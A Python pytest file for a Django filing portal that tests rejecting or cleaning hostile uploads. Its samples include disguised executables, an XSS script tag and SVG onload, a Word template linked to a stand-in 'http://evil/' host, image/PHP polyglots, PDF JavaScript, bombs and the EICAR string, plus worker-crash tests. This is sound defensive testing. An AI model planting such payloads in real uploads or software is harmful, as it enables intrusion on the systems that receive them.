"""What must never become a clean paper, by whichever way it comes; and checks that are cut off."""

import io
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone

from dossiers import actions, checking
from dossiers.models import CheckState, Paper
from portal.lib import files, jobs
from portal.lib.outbox import drain
from tests import factories
from tests.dossiers import tus_client as tus
from tests.dossiers import wizard_pages as pages
from tests.lib import samples
from tests.lib.test_clamd import EICAR, real  # noqa: F401  (a fixture: clamd of our own)


@pytest.fixture(autouse=True, scope="module")
def nothing_left_behind():
    yield
    jobs.shutdown()


@pytest.fixture
def empty(binh, service):
    return factories.a_draft(binh, service)


def by_form(browser, draft, name, data):
    place = f"tep-{draft.case.requirements.first().pk}"
    return browser.post(
        pages.url("filing-papers", draft), {place: SimpleUploadedFile(name, data), "viec": "tai"}
    )


def by_pieces(browser, draft, name, data):
    return tus.create(browser, draft, len(data), first=data, filename=name)


WAYS = {"form": by_form, "pieces": by_pieces}


def work():
    Paper.objects.filter(done_at=None).update(available_at=timezone.now())
    drain(Paper.objects.all(), checking.check, limit=20)


def office(*parts, main="word/document.xml"):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in (("[Content_Types].xml", b"<x/>"), (main, b"<x/>"), *parts):
            package.writestr(name, data)
    return out.getvalue()


REFUSED = {
    "html called pdf": ("don.pdf", b"<html><script>alert(1)</script></html>" * 20),
    "gif and zip": ("anh.gif", b"GIF89a" + office()),
    "zip": ("giay.zip", office(main="a.txt")),
    "svg": ("anh.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>"),
    "program": ("giay.exe", b"MZ" + b"\0" * 500),
    "pdf called jpg": ("anh.jpg", factories.a_pdf()),
    "hidden program": ("giay.exe.pdf", factories.a_pdf()),
    "cut pdf": ("don.pdf", factories.a_pdf()[:200]),
    "locked pdf": ("don.pdf", samples.locked_pdf("mật khẩu")),
    "png bomb": ("anh.png", samples.png_bomb()),
    "word where none is asked": ("don.docx", office()),
}


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("name", REFUSED)
def test_it_is_refused_with_a_sentence_and_nothing_is_kept(browser, empty, way, name):
    answer = WAYS[way](browser, empty, *REFUSED[name])
    assert answer.status_code in (200, 201)
    text = pages.text_of(browser.get(pages.url("filing-papers", empty)))
    said = text if way == "pieces" else pages.text_of(answer)
    assert "Mời" in said and not Paper.objects.exists()
    folder = Path(files.private_storage().path("papers"))
    assert [path for path in folder.rglob("*") if path.is_file()] == []


WORD = {
    "macro": office(("word/vbaProject.bin", b"x")),
    "bomb": office(("word/media/a.bmp", b"\0" * 210 * 1024 * 1024)),
    "template from elsewhere": office(
        (
            "word/_rels/settings.xml.rels",
            b'<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil/"'
            b' TargetMode="External"/></Relationships>',
        )
    ),
}


@pytest.mark.parametrize("name", WORD)
def test_word_files_are_taken_only_without_what_runs_or_swells(browser, empty, name):
    empty.case.requirements.update(form_title="Mẫu số 01")
    by_pieces(browser, empty, "don.docx", WORD[name])
    assert not Paper.objects.exists()


def test_a_plain_word_file_is_taken_where_the_procedure_has_a_form(browser, empty):
    empty.case.requirements.update(form_title="Mẫu số 01")
    by_pieces(browser, empty, "don.docx", office())
    work()
    assert Paper.objects.get().state == CheckState.CLEAN


def test_a_photo_that_is_also_a_script_loses_the_script(browser, empty):
    by_pieces(browser, empty, "anh.jpg", samples.jpeg() + samples.PHP)
    work()
    paper = Paper.objects.get()
    with files.open_private(paper.stored_name) as stored:
        assert b"<?php" not in stored.read() and paper.state == CheckState.CLEAN


def test_a_pdf_with_a_script_loses_it(browser, empty):
    by_form(browser, empty, "don.pdf", samples.hostile_pdf("named-script"))
    work()
    with files.open_private(Paper.objects.get().stored_name) as stored:
        assert b"JavaScript" not in stored.read()


# Viruses: a real clamd with EICAR as its only signature (tests/lib/test_clamd.py)


def infected():
    """The public test string inside what we take."""
    return {
        "pdf": ("don.pdf", factories.a_pdf() + b"\n" + EICAR.encode() + b"\n%%EOF\n"),
        "photo": ("anh.jpg", samples.jpeg(comment=EICAR.encode())),
        "word": ("don.docx", office(("word/media/a.txt", EICAR.encode()))),
    }


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["pdf", "photo", "word"])
@pytest.mark.parametrize("way", WAYS)
def test_eicar_is_found_and_given_to_nobody(real, browser, empty, way, kind):  # noqa: F811
    empty.case.requirements.update(form_title="Mẫu số 01")
    WAYS[way](browser, empty, *infected()[kind])
    work()
    paper = Paper.objects.get()
    assert (paper.state, paper.state_note[:10]) == (CheckState.INFECTED, "Eicar-Test")
    assert browser.get(f"/ho-so/giay-to/{paper.public_id}/").status_code == 404
    assert any("hãy thay tệp khác" in gap.sentence for gap in actions.gaps(empty))


@pytest.mark.slow
def test_twin_without_the_scanner_eicar_is_let_through(browser, empty, settings):
    settings.CLAMD_ADDRESS = ""
    by_form(browser, empty, *infected()["pdf"])
    work()
    assert Paper.objects.get().state == CheckState.CLEAN


@pytest.mark.slow
def test_a_scanner_that_comes_back_clears_what_waited(real, browser, empty, settings):  # noqa: F811
    address, settings.CLAMD_ADDRESS = settings.CLAMD_ADDRESS, "127.0.0.1:1"
    by_form(browser, empty, "don.pdf", factories.a_pdf())
    work()
    assert Paper.objects.get().state == CheckState.PENDING
    settings.CLAMD_ADDRESS = address
    work()
    assert Paper.objects.get().state == CheckState.CLEAN


# A worker that dies in the middle


def test_a_worker_that_died_is_followed_by_another(draft):
    """Claimed and never settled: when the lease is over, the next one looks."""
    Paper.objects.all().claim(1, timedelta(minutes=3), timezone.now())
    work()
    paper = draft.papers.get()
    assert paper.state == CheckState.PENDING
    Paper.objects.update(leased_until=timezone.now() - timedelta(seconds=1))
    work()
    paper.refresh_from_db()
    assert (paper.state, paper.attempts) == (CheckState.CLEAN, 2)


def test_a_worker_that_comes_back_too_late_changes_nothing(draft, monkeypatch):
    """The other one's clean copy stands; the late one's is an orphan for the sweep."""
    whole, first = files.clean_copy, []

    def dawdle(*args):
        made = whole(*args)
        if not first:
            first.append(1)
            Paper.objects.update(leased_until=timezone.now() - timedelta(seconds=1))
            drain(Paper.objects.all(), checking.check, limit=1)
        return made

    monkeypatch.setattr(checking.files, "clean_copy", dawdle)
    drain(Paper.objects.all(), checking.check, limit=1)
    paper = draft.papers.get()
    assert paper.state == CheckState.CLEAN and files.private_storage().exists(paper.stored_name)


def test_twin_without_the_token_the_late_one_overwrites(draft, monkeypatch):
    whole, names = files.clean_copy, []

    def dawdle(*args):
        made = whole(*args)
        if not names:
            names.append("")
            Paper.objects.update(leased_until=timezone.now() - timedelta(seconds=1))
            drain(Paper.objects.all(), checking.check, limit=1)
            names.append(Paper.objects.get().stored_name)
        return made

    monkeypatch.setattr(checking.files, "clean_copy", dawdle)
    monkeypatch.setattr(Paper, "_mine", lambda self: Paper.objects.filter(pk=self.pk))
    drain(Paper.objects.all(), checking.check, limit=1)
    assert Paper.objects.get().stored_name != names[1]


def test_a_child_killed_in_the_middle_is_tried_again(draft, monkeypatch):
    killed = []

    def kill(*args):
        if not killed:
            killed.append(1)
            raise jobs.JobFailed("killed")
        return whole(*args)

    whole = files.clean_copy
    monkeypatch.setattr(checking.files, "clean_copy", kill)
    work()
    work()
    assert draft.papers.get().state == CheckState.CLEAN


def test_a_full_disk_in_the_worker_waits_for_room(draft, monkeypatch):
    def full(*args, **kwargs):
        raise files.DiskFull

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(checking.files, "store_file", full)
        work()
    paper = draft.papers.get()
    assert (paper.state, paper.attempts) == (CheckState.PENDING, 0)
    work()
    assert draft.papers.get().state == CheckState.CLEAN
